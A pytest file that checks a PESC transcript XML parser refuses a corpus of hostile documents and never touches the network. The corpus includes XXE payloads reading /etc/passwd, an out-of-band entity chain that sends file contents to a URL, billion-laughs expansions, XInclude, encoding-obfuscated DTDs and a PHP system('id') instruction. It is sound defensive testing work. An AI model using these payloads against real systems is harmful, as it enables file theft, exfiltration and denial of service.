"""A hostile corpus: every document is refused with PescError and a reason, and none of them
(nor validating or answering them) makes a network connection.

URLs in the corpus point at a loopback server that records every connection it accepts, so a
parser that fetched anything, from C or from Python, would be caught.
"""

from __future__ import annotations

import codecs
import socket
import time
from collections.abc import Callable
from functools import lru_cache
from html import escape
from typing import NamedTuple

import pytest
from lxml import etree

from tests.pesc.conftest import Recorder
from tests.pesc.factories import XSD_DIR, needs_samples, sample
from workbench import pesc
from workbench.errors import PescError
from workbench.pesc.document import DEFAULT_MAX_BYTES

CT = "urn:org:pesc:message:CollegeTranscript:v1.3.0"
ROOT = f'<ct:CollegeTranscript xmlns:ct="{CT}"><TransmissionData/></ct:CollegeTranscript>'


class Case(NamedTuple):
    name: str
    data: str | bytes
    reason: str
    max_bytes: int | None = None


def _laughs() -> str:
    entities = ['<!ENTITY lol "lol">']
    for level in range(1, 10):
        previous = f"&lol{level - 1 if level > 1 else ''};" * 10
        entities.append(f'<!ENTITY lol{level} "{previous}">')
    subset = "".join(entities).replace("&lol0;", "&lol;")
    return f"<!DOCTYPE CollegeTranscript [{subset}]><CollegeTranscript>&lol9;</CollegeTranscript>"


@lru_cache(maxsize=4)
def corpus(url: str) -> list[Case]:
    """At least 30 hostile or broken documents; ``url`` is the recording loopback server."""
    port = url.rsplit(":", 1)[1]
    xxe_http = (
        f'<?xml version="1.0"?><!DOCTYPE CollegeTranscript [<!ENTITY xxe SYSTEM "{url}/xxe">]>'
        "<CollegeTranscript>&xxe;</CollegeTranscript>"
    )
    quadratic = (
        f'<!DOCTYPE CollegeTranscript [<!ENTITY a "{"a" * 50_000}">]>'
        f"<CollegeTranscript>{'&a;' * 10_000}</CollegeTranscript>"
    )
    cases = [
        Case(
            "xxe-file",
            '<?xml version="1.0"?><!DOCTYPE CollegeTranscript '
            '[<!ENTITY xxe SYSTEM "file:///etc/passwd">]><CollegeTranscript>&xxe;</CollegeTranscript>',
            "entity",
        ),
        Case("xxe-http", xxe_http, "entity"),
        Case(
            "xxe-https",
            f'<!DOCTYPE x [<!ENTITY xxe SYSTEM "https://127.0.0.1:{port}/xxe">]><x>&xxe;</x>',
            "entity",
        ),
        Case(
            "xxe-public-id",
            f'<!DOCTYPE x [<!ENTITY xxe PUBLIC "-//EVIL//X" "{url}/public">]><x>&xxe;</x>',
            "entity",
        ),
        Case(
            "xxe-in-attribute",
            f'<!DOCTYPE x [<!ENTITY xxe SYSTEM "{url}/attr">]><CollegeTranscript a="&xxe;"/>',
            "entity",
        ),
        Case(
            "parameter-entity-http",
            f'<!DOCTYPE x [<!ENTITY % remote SYSTEM "{url}/remote.dtd"> %remote;]>{ROOT}',
            "entity",
        ),
        Case(
            "parameter-entity-out-of-band",
            '<!DOCTYPE x [<!ENTITY % file SYSTEM "file:///etc/hostname">'
            f"<!ENTITY % eval \"<!ENTITY &#x25; exfil SYSTEM '{url}/?d=%file;'>\">"
            f"%eval;%exfil;]>{ROOT}",
            "entity",
        ),
        Case("billion-laughs", _laughs(), "entity"),
        Case("quadratic-blowup", quadratic, "entity"),
        Case(
            "external-dtd-http",
            f'<!DOCTYPE CollegeTranscript SYSTEM "{url}/evil.dtd">{ROOT}',
            "dtd",
        ),
        Case(
            "external-dtd-file",
            f'<!DOCTYPE CollegeTranscript SYSTEM "file:///etc/passwd">{ROOT}',
            "dtd",
        ),
        Case(
            "external-dtd-public",
            f'<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "{url}/xhtml.dtd">{ROOT}',
            "dtd",
        ),
        Case(
            "internal-subset",
            f"<!DOCTYPE CollegeTranscript [<!ELEMENT CollegeTranscript ANY>]>{ROOT}",
            "dtd",
        ),
        Case(
            "dtd-after-comments",
            f'<?xml version="1.0"?>\n<!-- a --><!-- b -->\n<!DOCTYPE x SYSTEM "{url}/x.dtd">{ROOT}',
            "dtd",
        ),
        Case("doctype-lowercase", f'<!doctype x SYSTEM "{url}/x.dtd">{ROOT}', "dtd"),
        Case(
            "xinclude-file",
            '<CollegeTranscript xmlns:xi="http://www.w3.org/2001/XInclude">'
            '<xi:include href="file:///etc/passwd" parse="text"/></CollegeTranscript>',
            "xinclude",
        ),
        Case(
            "xinclude-http",
            f'<ct:CollegeTranscript xmlns:ct="{CT}" xmlns:xi="http://www.w3.org/2001/XInclude">'
            f'<TransmissionData><xi:include href="{url}/inc.xml"/></TransmissionData>'
            "</ct:CollegeTranscript>",
            "xinclude",
        ),
        Case(
            "xinclude-2003",
            '<CollegeTranscript><x:include xmlns:x="http://www.w3.org/2003/XInclude" '
            f'href="{url}/inc.xml"/></CollegeTranscript>',
            "xinclude",
        ),
        Case(
            "nesting-10000",
            "<CollegeTranscript>" + "<a>" * 10_000 + "</a>" * 10_000 + "</CollegeTranscript>",
            "too-deep",
        ),
        Case(
            "nesting-300",
            "<CollegeTranscript>" + "<a>" * 300 + "</a>" * 300 + "</CollegeTranscript>",
            "too-deep",
        ),
        Case(
            "oversized-default-cap",
            b"<CollegeTranscript>" + b" " * DEFAULT_MAX_BYTES + b"</CollegeTranscript>",
            "too-large",
        ),
        Case("oversized-str", ROOT + " " * 2_000, "too-large", max_bytes=1_000),
        Case(
            "oversized-once-encoded",  # 600 characters, but 1,100 bytes in UTF-8
            "<CollegeTranscript>" + "é" * 560 + "</CollegeTranscript>",
            "too-large",
            max_bytes=1_000,
        ),
        Case("not-xml", "hello, this is not XML", "malformed"),
        Case("json-envelope", '{"PESCXML": "<CollegeTranscript/>"}', "malformed"),
        Case("empty-str", "", "empty"),
        Case("empty-bytes", b"", "empty"),
        Case("whitespace-only", " \r\n\t ", "empty"),
        Case("bom-only", codecs.BOM_UTF8, "empty"),
        Case("wrong-root", "<html><body>hello</body></html>", "not-pesc"),
        Case(
            "wrong-root-soap",
            '<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/">'
            f"<soap:Body>{ROOT}</soap:Body></soap:Envelope>",
            "not-pesc",
        ),
        Case(
            "pesc-name-foreign-namespace",
            '<x:CollegeTranscript xmlns:x="http://evil.example/"/>',
            "not-pesc",
        ),
        Case(
            "pi-stylesheet",
            f'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="{url}/x.xsl"?>{ROOT}',
            "pi",
        ),
        Case(
            "pi-in-body",
            f'<ct:CollegeTranscript xmlns:ct="{CT}"><?php system("id"); ?></ct:CollegeTranscript>',
            "pi",
        ),
        Case("pi-after-root", f"{ROOT}<?evil data?>", "pi"),
        Case("undeclared-entity", "<CollegeTranscript>&xxe;</CollegeTranscript>", "entity"),
        Case("escaped-twice", escape(escape(ROOT, quote=False), quote=False), "malformed"),
        Case("escaped-once-xxe", escape(xxe_http, quote=False), "entity"),
        Case("utf16-xxe", codecs.BOM_UTF16_LE + xxe_http.encode("utf-16-le"), "entity"),
        Case("truncated", f'<ct:CollegeTranscript xmlns:ct="{CT}"><TransmissionData>', "malformed"),
        Case("invalid-utf8", b"<CollegeTranscript>\xff\xfe\xfa</CollegeTranscript>", "encoding"),
        Case(
            "unknown-encoding",
            b'<?xml version="1.0" encoding="x-klingon"?><CollegeTranscript/>',
            "encoding",
        ),
        Case("two-roots", "<CollegeTranscript/><CollegeTranscript/>", "malformed"),
        Case("nul-character", "<CollegeTranscript>\x00</CollegeTranscript>", "malformed"),
        Case("unclosed-comment", "<!-- never closed <CollegeTranscript/>", "malformed"),
        Case("cdata-at-top-level", "<![CDATA[<CollegeTranscript/>]]>", "malformed"),
        Case("bad-character-reference", "<CollegeTranscript>&#0;</CollegeTranscript>", "malformed"),
        # A DTD is refused whatever hides it: an encoding the parser would honour and we would
        # not, a declaration padded long, whitespace, a long comment or processing instruction.
        Case(
            "utf7-dtd-padded-declaration",
            f'<?xml version="1.0"{" " * 250}encoding="UTF-7"?>'.encode()
            + _utf7_markup(f'<!DOCTYPE x [<!ENTITY xxe SYSTEM "{url}/utf7">]>')
            + ROOT.replace(
                "<TransmissionData/>", "<TransmissionData>&xxe;</TransmissionData>"
            ).encode(),
            "encoding",
        ),
        Case(
            "utf16-dtd-after-300-spaces",
            codecs.BOM_UTF16_BE
            + f'<?xml version="1.0" encoding="UTF-16"?>{" " * 300}<!DOCTYPE x SYSTEM "{url}/x.dtd">'
            f"{ROOT}".encode("utf-16-be"),
            "dtd",
        ),
        Case(
            "dtd-after-long-comment",
            f'<!--{"-x" * 5_000}--><!DOCTYPE x SYSTEM "{url}/x.dtd">{ROOT}'.encode(),
            "dtd",
        ),
        Case(
            "dtd-after-long-pi",
            f'<?pad {"x" * 5_000}?><!DOCTYPE x SYSTEM "{url}/x.dtd">{ROOT}',
            "pi",
        ),
        Case("utf32-bom", codecs.BOM_UTF32_LE + ROOT.encode("utf-32-le"), "encoding"),
        Case(
            "utf32-declared-no-bom",
            f'<?xml version="1.0" encoding="UTF-32"?><!DOCTYPE x SYSTEM "{url}/x">{ROOT}'.encode(
                "utf-32-le"
            ),
            "encoding",
        ),
        Case(
            "ebcdic-cp037",
            f'<?xml version="1.0" encoding="IBM037"?>{ROOT}'.encode("cp037"),
            "encoding",
        ),
    ]
    return cases


def _utf7_markup(text: str) -> bytes:
    """``text`` in UTF-7 with every markup character base64-encoded, as a hostile sender would."""
    return "".join(
        char if char.isalnum() or char == " " else _utf7_shifted(char) for char in text
    ).encode()


def _utf7_shifted(char: str) -> str:
    return "+" + codecs.encode(char.encode("utf-16-be"), "base64").decode().rstrip("=\n") + "-"


NAMES = [case.name for case in corpus("http://127.0.0.1:1")]


def test_the_corpus_is_big_enough() -> None:
    assert len(NAMES) >= 30
    assert len(set(NAMES)) == len(NAMES)


@pytest.mark.parametrize("name", NAMES)
def test_hostile_document_is_refused_with_a_reason(
    name: str, recorder: Recorder, no_sockets: list[object]
) -> None:
    case = next(case for case in corpus(recorder.url) if case.name == name)
    with pytest.raises(PescError) as refused:
        pesc.parse(case.data, max_bytes=case.max_bytes)
    assert refused.value.reason == case.reason
    assert len(str(refused.value)) > 20  # says what happened and what to do
    assert recorder.connections == []
    assert no_sockets == []


def test_no_network_access_while_parsing_validating_and_answering(
    recorder: Recorder, no_sockets: list[object]
) -> None:
    for case in corpus(recorder.url):
        with pytest.raises(PescError):
            pesc.parse(case.data, max_bytes=case.max_bytes)
        if case.max_bytes is None:
            result = pesc.validate(case.data, schemas_dir=XSD_DIR)
            assert result.status == "invalid"
            with pytest.raises(PescError):
                pesc.build_acknowledgment(case.data)
            with pytest.raises(PescError):
                pesc.flatten(case.data)
    assert recorder.connections == []
    assert no_sockets == []


SAMPLE = "canpesc/Ontario_College_CollegeTranscript.xml"
DECLARED = '<?xml version="1.0" encoding="{}"?>\n'


@pytest.mark.parametrize(
    ("data", "named"),
    [
        (f'<?xml version="1.0"{" " * 250}encoding="UTF-7"?>{ROOT}'.encode(), "UTF-7"),
        (b"+/v8-" + ROOT.encode(), "UTF-7"),  # UTF-7's signature
        (DECLARED.format("UTF-7") + ROOT, "UTF-7"),  # text declaring it
        (escape(DECLARED.format("utf-7") + ROOT, quote=False), "utf-7"),  # escaped once
        (codecs.BOM_UTF16_LE + (DECLARED.format("UTF-7") + ROOT).encode("utf-16-le"), "UTF-7"),
        (codecs.BOM_UTF32_BE + ROOT.encode("utf-32-be"), "UTF-32"),
        (ROOT.encode("utf-32-le"), "UTF-32"),
        ((DECLARED.format("cp037") + ROOT).encode("cp037"), "EBCDIC"),
        ((DECLARED.format("Shift_JIS") + ROOT).encode(), "Shift_JIS"),
    ],
    ids=[
        "utf7",
        "utf7-signature",
        "utf7-str",
        "utf7-escaped",
        "utf7-in-utf16",
        "utf32-bom",
        "utf32",
        "ebcdic",
        "shift-jis",
    ],
)
def test_encodings_pesc_never_uses_are_refused_by_name(data: str | bytes, named: str) -> None:
    with pytest.raises(PescError) as refused:
        pesc.parse(data)
    assert refused.value.reason == "encoding"
    assert named in str(refused.value)


@needs_samples
@pytest.mark.parametrize(
    "encode",
    [
        lambda text: text.encode(),
        lambda text: codecs.BOM_UTF8 + (DECLARED.format("UTF-8") + text).encode(),
        lambda text: (DECLARED.format("US-ASCII") + text).encode("ascii", "xmlcharrefreplace"),
        lambda text: (DECLARED.format("ISO-8859-1") + text).encode("latin-1"),
        lambda text: (DECLARED.format("windows-1252") + text).encode("cp1252"),
        lambda text: codecs.BOM_UTF16_LE + (DECLARED.format("UTF-16") + text).encode("utf-16-le"),
        lambda text: codecs.BOM_UTF16_BE + (DECLARED.format("UTF-16") + text).encode("utf-16-be"),
        lambda text: text.encode("utf-16-le"),
        lambda text: DECLARED.format("utf-16") + text,
        lambda text: escape(DECLARED.format("UTF-8") + text, quote=False),
    ],
    ids=[
        "utf8",
        "utf8-bom",
        "ascii",
        "latin1",
        "cp1252",
        "utf16le-bom",
        "utf16be-bom",
        "utf16le",
        "str",
        "escaped",
    ],
)
def test_documents_in_the_encodings_pesc_uses_are_read(
    encode: Callable[[str], str | bytes],
) -> None:
    text = sample(SAMPLE).decode("utf-8")
    expected = etree.tostring(pesc.parse(text).root)
    assert etree.tostring(pesc.parse(encode(text)).root) == expected


def test_the_recorder_would_see_a_connection(fresh_recorder: Recorder) -> None:
    # Positive control: the server does record connections, so "no connections" means something.
    with socket.create_connection(("127.0.0.1", fresh_recorder.port)) as client:
        client.sendall(b"GET / HTTP/1.0\r\n\r\n")
        client.recv(100)
    for _ in range(500):
        if fresh_recorder.connections:
            break
        time.sleep(0.01)
    assert len(fresh_recorder.connections) == 1


def test_no_sockets_guard_catches_python_connections(no_sockets: list[object]) -> None:
    with pytest.raises(OSError, match="network access attempted"):
        socket.create_connection(("127.0.0.1", 9))
    assert no_sockets


def test_schema_location_hints_are_not_fetched(
    recorder: Recorder, no_sockets: list[object]
) -> None:
    if not XSD_DIR.is_dir():
        pytest.skip(f"PESC schemas not found at {XSD_DIR}")
    document = (
        f'<ct:CollegeTranscript xmlns:ct="{CT}" '
        'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
        f'xsi:schemaLocation="{CT} {recorder.url}/CollegeTranscript.xsd">'
        "<TransmissionData/></ct:CollegeTranscript>"
    )
    result = pesc.validate(document, schemas_dir=XSD_DIR)
    assert result.status == "invalid"  # an empty TransmissionData, but read locally
    assert recorder.connections == []
    assert no_sockets == []


def test_a_document_at_the_cap_is_still_read() -> None:
    document = ROOT.encode()
    assert pesc.parse(document, max_bytes=len(document)).message_type == "CollegeTranscript"
    with pytest.raises(PescError) as refused:
        pesc.parse(document, max_bytes=len(document) - 1)
    assert refused.value.reason == "too-large"


def test_the_cap_comes_from_the_setting(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("WORKBENCH_PESC_MAX_BYTES", "50")
    with pytest.raises(PescError) as refused:
        pesc.parse(ROOT)
    assert refused.value.reason == "too-large"
    assert "WORKBENCH_PESC_MAX_BYTES" in str(refused.value)
    assert pesc.parse(ROOT, max_bytes=10_000).message_type == "CollegeTranscript"
